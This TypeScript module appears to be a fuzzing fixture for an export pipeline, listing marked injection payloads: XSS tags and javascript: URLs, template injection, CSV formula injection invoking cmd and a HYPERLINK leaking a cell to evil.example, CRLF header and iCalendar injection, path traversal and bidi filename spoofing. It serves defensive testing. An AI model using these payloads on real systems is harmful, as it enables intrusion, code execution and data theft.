/**
 * Words that some reader takes for more than words: each with a mark of its own, so that it can be found again.
 *
 * Named for what they would be if they worked.
 */
export const payloads: Readonly<Record<string, (mark: string) => string>> = {
  'a script': (mark) => `${mark}<script>pwned('${mark}')</script>`,
  'an image that fails': (mark) => `${mark}<img src=x onerror=pwned()><svg/onload=pwned()>`,
  'the end of what stands around it': (mark) =>
    `${mark}</style></title></textarea></td></li></p>--></svg><script>pwned()</script>`,
  'an attribute': (mark) => `${mark}" autofocus onfocus="pwned()" style='x' x="`,
  'an entity': (mark) => `${mark} &lt;b&gt; &#60;i&#62; &amp;amp; &nbsp;`,
  'a template': (mark) => `${mark} {{constructor.constructor('pwned()')()}} \${pwned()} #{pwned()}`,
  'a link of a script': (mark) => `[${mark}](javascript:pwned()) <javascript:pwned()> javascript:pwned()`,
  'a link somewhere': (mark) => `[${mark}](https://evil.example) ![x](https://evil.example/x.png "t") [x][${mark}]`,
  'a reference': (mark) => `[${mark}]: https://evil.example "title"`,
  'a footnote': (mark) => `[^1]: ${mark} [^1]`,
  emphasis: (mark) => `**${mark}** __x__ _y_ *z* ~~w~~ \`code\` ***`,
  'half of a code span': (mark) => `${mark} \`\`\` \\`,
  'a cell': (mark) => `${mark} | x | y \\| z |`,
  'a heading': (mark) => `# ${mark} #`,
  'a quotation': (mark) => `> ${mark}`,
  'an ordered list': (mark) => `1. ${mark}`,
  'a task': (mark) => `[ ] ${mark}`,
  'a rule': (mark) => `*** ${mark}\n***\n___\n---\n===`,
  'a fence': (mark) => `${mark}\n\`\`\`html\n<b>\n~~~\n:::note`,
  'an indented block': (mark) => `    ${mark}\n\t\tx`,
  'a table': (mark) => `${mark}\n| a | b |\n|---|---|\n| c | d |\n:-- | --:`,
  'markup over lines': (mark) => `${mark}\n<div>\n<!-- \n]]>\n<?php\n</div>`,
  'a formula': (mark) => `=HYPERLINK("https://evil.example?"&A1,"${mark}")`,
  'a sum': (mark) => `+1+cmd|' /C calc'!A0 ${mark}`,
  'a difference': (mark) => `-1+1 ${mark}`,
  'a function': (mark) => `@SUM(1+1)*cmd|' /C calc'!A0 ${mark}`,
  'a formula in the next cell': (mark) => `${mark};=1+1;"=2+2";\t=3+3,=4+4,"=5+5`,
  'a formula in the next row': (mark) => `${mark}\n=1+1\r\n+2+2\n-3+3\n@SUM(4)`,
  'a formula behind a sign that is not seen': (mark) => `\u200b\ufeff\u00a0=1+1 ${mark}`,
  'an event': (mark) => `${mark}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:pwned\r\nATTACH:https://evil.example`,
  'an escaped event': (mark) => `${mark}\\nBEGIN:VALARM\\;X=1\\,y\\\\`,
  'a line that other programs end': (mark) => `${mark}\u2028BEGIN:VEVENT\u2029X:1\u0085Y:2\u000bZ:3\u000cW:4\rV:5`,
  'a header': (mark) => `${mark}\r\nSet-Cookie: hindsight=pwned\r\n\r\n<script>pwned()</script>`,
  'a way out of a folder': (mark) => `../../${mark}/..\\..\\"; filename*=UTF-8''pwned.exe`,
  'reversed words': (mark) => `${mark} \u202egpj.exe\u202c \u2067x\u2066 \u200fy`,
  'signs that are not seen': (mark) => `${mark}\u200b\u0000\u0007\u001b[31m\u009b1m\ufeff\u2060`,
  'half of a sign': (mark) => `${mark} \ud800 \udfff x\ud83d`,
  'a prototype': (mark) => `__proto__ ${mark} constructor`,
}

/** How exports part lines. */
const lineEnds = /\r\n|[\n\r\v\f\u0085\u2028\u2029]/u

/** Harmless words in the same lines: what a reader should make of the others, apart from the letters. */
export function harmless(text: string, mark: string): string {
  const lines = text.split(lineEnds).map((line) => {
    const words = line
      .replaceAll('\t', ' ')
      .replace(/[\p{Cc}\p{Cs}\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/gu, '')
      .trim()
    if (words === '') return ''
    const list = /^[-*•]\s+\S/u.test(words) ? '- ' : ''
    return list + (words.includes(mark) ? mark : 'x')
  })
  return lines.join('\n')
}

/** What those are made of, to be put together by chance. */
export const pieces: readonly string[] = [
  ...[
    '<',
    '>',
    '</',
    '<!--',
    '-->',
    '<script>',
    '</script>',
    '<img src=x onerror=pwned()>',
    '<b>',
    '"',
    "'",
    '&',
    '&lt;',
  ],
  ...['*', '**', '_', '__', '~~', '`', '```', '[', ']', '(', ')', '](', '![', '|', '\\', '#', '##', '>', '-', '+', '='],
  ...[
    '1.',
    '2)',
    ':',
    ':-',
    '---',
    '***',
    '===',
    '~~~',
    '[x]',
    '[^1]',
    '[^1]:',
    '<https://evil.example>',
    'javascript:',
  ],
  ...[
    'www.evil.example',
    'https://evil.example/?q=_x_',
    'eve@evil.example',
    '$',
    '{',
    '}',
    ';',
    ',',
    '@',
    '^',
    '!',
    '?',
  ],
  ...[
    '\n',
    '\n\n',
    '\r\n',
    '\n- ',
    '\n* ',
    '\n1. ',
    '\n> ',
    '\n# ',
    '\n    ',
    '\n\t',
    '\n|',
    '\n---\n',
    '\u2028',
    '\u000b',
  ],
  ...[' ', '  ', '\t', '\u00a0', '\u200b', '\u202e', '\ud800', 'word', 'Ж', '漢', '🚒', '0'],
]

/** Addresses that lead elsewhere than they seem to, or out of where they stand; some of them the schema refuses. */
export const addresses: readonly string[] = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()//https://links.example',
  ' javascript:pwned()',
  'java\tscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  '//evil.example',
  'https://links.example/"onmouseover="pwned()',
  "https://links.example/'onmouseover='pwned()",
  'https://links.example/><script>pwned()</script>',
  'https://links.example/)[x](javascript:pwned())',
  'https://links.example/>)<img src=x onerror=pwned()>',
  'https://links.example/|cell|',
  'https://links.example/\\',
  'https://links.example/\n\n# heading',
  'https://links.example/ onclick=pwned()',
  'https://links.example/&quot;&gt;&lt;b&gt;',
  'https://links.example\r\nATTACH:https://evil.example',
  'HTTPS://LINKS.EXAMPLE/',
  '=HYPERLINK("https://evil.example")',
]
